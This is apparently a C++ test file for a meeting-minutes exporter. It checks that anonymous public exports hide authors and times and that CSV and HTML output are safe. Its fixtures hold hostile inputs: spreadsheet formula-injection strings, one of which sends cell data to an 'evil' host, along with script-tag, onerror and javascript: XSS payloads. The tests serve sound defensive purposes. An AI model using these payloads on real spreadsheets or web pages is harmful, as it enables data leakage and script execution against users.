// Exports for people, tables and pages; and what no public export tells.
#include <catch2/catch.hpp>

#include "exported.hpp"

using namespace plenaria;
using namespace plenaria::minutes;

TEST_CASE("without attribution no byte of a public export tells the author or the exact time") {
  Rules rules;
  rules.attribution = Attribution::none;
  const WrittenLog log = some_log(rules);
  for (const Make make : {jsonl_export, csv_export, html_export}) {
    const std::string file = exported(log, Audience::public_, make);
    for (const auto& entry : log.entries) {
      const auto decoded = decode_header(entry.header);
      REQUIRE(decoded.has_value());
      if (std::holds_alternative<EpochChanged>(decoded->entry.event)) continue;
      CHECK_FALSE(tells(file, rfc3339(decoded->entry.at).substr(14, 9)));
      CHECK_FALSE(tells(file, std::to_string(decoded->entry.at.time_since_epoch().count())));
      if (const auto* submitted = std::get_if<InterventionSubmitted>(&decoded->entry.event)) {
        CHECK_FALSE(tells(file, submitted->author.text()));
        CHECK_FALSE(tells(file, submitted->key.text()));
        CHECK_FALSE(tells(file, submitted->content.text()));
      }
      if (entry.body)
        if (const auto body = decode_body(*entry.body)) CHECK_FALSE(tells(file, body->author_salt));
    }
    for (const char* who : {"Name of", "Delegation of", "ana", "academia"}) CHECK_FALSE(tells(file, who));
  }
}

TEST_CASE("a rule that was loosened tells no more of what was said before, in any form of an export") {
  Rules rules;
  rules.attribution = Attribution::none;
  WrittenLog log(rules);
  // Nine o'clock, and a little: within the quarter of an hour, and not at its beginning.
  log.now = VenueTime{Milliseconds(1'522'054'800'000)} + std::chrono::minutes(6);
  log.submit("In confidence.");
  const VenueTime at = log.now;
  rules.attribution = Attribution::named;
  log.configure(rules);
  log.submit("On the record.", "bruno");
  const std::string page = exported(log, Audience::public_, html_export);
  CHECK(tells(page, "Name of bruno"));
  CHECK_FALSE(tells(page, "Name of ana"));
  for (const Make make : {jsonl_export, csv_export, html_export})
    CHECK_FALSE(tells(exported(log, Audience::public_, make), rfc3339(at)));
  // The list of contents has the time of the first.
  CHECK_FALSE(tells(page, ":07"));
  CHECK(tells(page, "11:00"));
}

TEST_CASE("a table has a row for each intervention, and nothing in it is a formula") {
  WrittenLog log;
  log.submit("=HYPERLINK(\"http://example.org\",\"click\")");
  log.submit("two\nlines, \"quoted\"");
  log.submit("+1", "@evil");
  log.withdraw(log.submit("gone"));
  const std::string file = exported(log, Audience::public_, csv_export);
  CHECK(file.starts_with("\xEF\xBB\xBF\"seq\",\"at\",\"kind\""));
  CHECK(tells(file, ",\"'=HYPERLINK(\"\"http://example.org\"\",\"\"click\"\")\","));
  CHECK(tells(file, ",\"two\nlines, \"\"quoted\"\"\","));
  CHECK(tells(file, ",\"'+1\","));
  CHECK(tells(file, ",\"\",\"withdrawn\",\"\",\"\",\"\",\"\",\"\",\"\",\"\","));
  CHECK(std::count(file.begin(), file.end(), '\r') == 5);
}

TEST_CASE("a table is free of formulas also where cells end at semicolons, tabs or line breaks") {
  const std::string ordinary = "Costs: 5-7 days; see \"annex\" (a = b), write to ana@example.org\nand so on.";
  WrittenLog log;
  log.submit("Thank you;=HYPERLINK(\"http://evil/?\"&A1);and\n=1+1;x\n@SUM(1);y");
  log.submit("a\t-2\r\n+3; \"=4\";\t=5\n\"\"@6;＝7;\n\n=8;;=9", "@who;=10");
  log.submit(ordinary);
  log.submit("First:\n- item");
  const std::string file = exported(log, Audience::public_, csv_export);
  std::string cell;
  int cells = 0;
  for (const char c : file + "\n") {
    if (std::string_view(";\t\r\n").find(c) == std::string_view::npos) {
      cell += c;
      continue;
    }
    const auto first = std::min(cell.find_first_not_of(" \""), cell.size());
    const std::string seen = cell.substr(first);
    for (const char* sign : {"=", "+", "-", "@", "＝", "＋", "－", "＠"}) {
      INFO(cell);
      CHECK_FALSE(seen.starts_with(sign));
    }
    ++cells;
    cell.clear();
  }
  CHECK(cells > 20);
  CHECK(tells(file, "\"Thank you;'=HYPERLINK(\"\"http://evil/?\"\"&A1);and\n'=1+1;x\n'@SUM(1);y\""));
  CHECK(tells(file, "Name of @who;'=10"));
  CHECK(tells(file, "Costs: 5-7 days; see \"\"annex\"\" (a = b), write to ana@example.org\nand so on."));
  CHECK(tells(file, "\"First:\n'- item\""));
}

TEST_CASE("a page shows every text as it was written, whatever it tries to be") {
  const std::string hostile = "<script>alert(1)</script> \"'&lt; {{words.record}} {{{style}}} </div><b>";
  WrittenLog log;
  log.submit(hostile, "<img src=x onerror=alert(1)>");
  const std::string page = exported(log, Audience::public_, html_export, "es");
  CHECK_FALSE(tells(page, "<script"));
  CHECK_FALSE(tells(page, "<img"));
  CHECK_FALSE(tells(page, "<b>"));
  CHECK(tells(
      page,
      "&lt;script&gt;alert(1)&lt;/script&gt; &quot;&apos;&amp;lt; {{words.record}} {{{style}}} &lt;/div&gt;&lt;b&gt;"));
  CHECK(tells(page, "<html lang=\"es\" dir=\"ltr\">"));
  CHECK(tells(page, "<title>La sala – Acta – Una prueba</title>"));
  CHECK(tells(page, "lang=\"en\" dir=\"auto\""));
  CHECK(tells(page, log.head.public_hash.text()));
}

TEST_CASE("a page links to web addresses alone") {
  WrittenLog log;
  log.submit("See there.");
  // As a body that some other program wrote may have it.
  auto body = decode_body(*log.entries[1].body);
  REQUIRE(body);
  body->sources = {"javascript:alert(1)", "https://example.org/good"};
  log.entries[1].body = encode_body(*body);
  const std::string page = exported(log, Audience::public_, html_export);
  CHECK_FALSE(tells(page, "href=\"javascript"));
  CHECK(tells(page, "<li>javascript:alert(1)</li>"));
  CHECK(tells(page, "<a href=\"https://example.org/good\" rel=\"noreferrer\">"));
}
